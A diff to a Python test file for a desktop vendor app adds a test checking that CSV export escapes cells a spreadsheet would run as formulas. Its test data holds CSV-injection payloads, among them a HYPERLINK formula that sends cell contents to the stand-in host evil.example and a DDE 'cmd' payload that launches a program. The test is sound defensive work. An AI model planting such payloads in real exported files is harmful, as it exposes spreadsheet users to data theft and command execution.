@@ -10,6 +10,7 @@ from PySide6.QtCore import Qt
 
 from vendor_desktop.cache.apply import apply_changes
 from vendor_desktop.cache.changes import ChangeSet
+from vendor_desktop.cache.database import CacheDatabase
 from vendor_desktop.ui.orders_view import OrdersView
 from vendor_desktop.viewmodels.orders import COLUMNS, OrdersViewModel
 from vendor_desktop.viewmodels.paged_table import FETCH_STEP
@@ -129,6 +130,38 @@ def test_export_writes_the_filtered_list_as_excel_friendly_csv(view, qtbot, tmp_
     assert all(r[COLUMNS.index("state")] == "Unpaid" for r in rows[1:])
     assert rows[1][COLUMNS.index("buyer")] == "杭州**科技有限公司"
     assert rows[1][COLUMNS.index("amount")].replace(".", "").isdigit()  # plain number for sums
+
+
+@pytest.mark.parametrize(
+    ("buyer", "listing", "shown_buyer", "shown_listing"),
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "云桌面", "'=HYPERLINK(", "云桌面"),
+        ("+86 138", "@SUM(1+1)", "'+86 138", "'@SUM(1+1)"),
+        ("-2+3", "\t=cmd|' /C calc'!A0", "'-2+3", "'\t=cmd"),
+        ("\r=1+1", "安全加固镜像 =1", "'\r=1+1", "安全加固镜像 =1"),
+    ],
+)
+def test_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(
+    qtbot, tmp_path, runner, buyer, listing, shown_buyer, shown_listing
+):
+    """OWASP CSV injection: names typed by buyers and vendors never become formulas in Excel."""
+    db = CacheDatabase.open(tmp_path / "cache.sqlite3")
+    with db.session() as s, s.begin():
+        apply_changes(s, [make_order(1, buyer=buyer, listing=listing), make_order(2, amount_fen=-1250)])
+    vm = OrdersViewModel(db, runner)
+    path = tmp_path / "orders.csv"
+    with qtbot.waitSignal(vm.export_finished, timeout=10_000):
+        vm.export_csv(str(path))
+    db.close()
+    with path.open(encoding="utf-8-sig", newline="") as f:  # as Excel reads it: a CR in a cell stays
+        rows = {r[0]: r for r in csv.reader(f)}
+    cells = rows["2026110100000001"]
+    assert cells[COLUMNS.index("buyer")].startswith(shown_buyer)
+    assert cells[COLUMNS.index("listing")].startswith(shown_listing)
+    assert cells[COLUMNS.index("buyer")].lstrip("'") == buyer  # nothing else changes
+    # Money stays a number a spreadsheet can sum, a negative amount (a refund line) too.
+    assert rows["2026110100000002"][COLUMNS.index("amount")] == "-12.50"
+    assert cells[COLUMNS.index("amount")] == "100.00"
 
 
 def test_a_pull_refreshes_the_list_and_keeps_the_selection(view, orders_db, qtbot):
